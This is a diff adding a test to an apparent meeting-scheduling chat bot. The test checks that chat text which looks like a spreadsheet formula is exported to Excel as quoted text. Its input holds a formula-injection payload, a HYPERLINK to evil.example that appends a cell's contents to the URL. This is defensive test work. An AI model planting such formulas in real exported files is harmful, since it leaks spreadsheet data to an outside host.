@@ -176,3 +176,16 @@ def test_feed_tokens_are_long_and_distinct(engine: Engine, district: dict[str, i
         two = token_for(session, org_id=district["第二党支部"], now=now)
         assert one != two and len(one) >= 32
         assert org_for_token(session, "") is None and org_for_token(session, "x" * 100) is None
+
+
+def test_text_that_looks_like_a_formula_is_exported_as_text(
+    chat_as: Callable[..., Chat], engine: Engine, district: dict[str, int], clock: FakeClock
+) -> None:
+    topic = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+    chat_as("王书记").say(f"安排 支委会 11月3日 15:00 @SUM(1+1) 主题：{topic}")
+    book = load_workbook(BytesIO(_book(engine, district, clock.now() + timedelta(days=10))))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    by_text = {c.value: c for c in cells if isinstance(c.value, str)}
+    assert topic in by_text and "@SUM(1+1)" in by_text
+    assert by_text[topic].quotePrefix and by_text["@SUM(1+1)"].quotePrefix
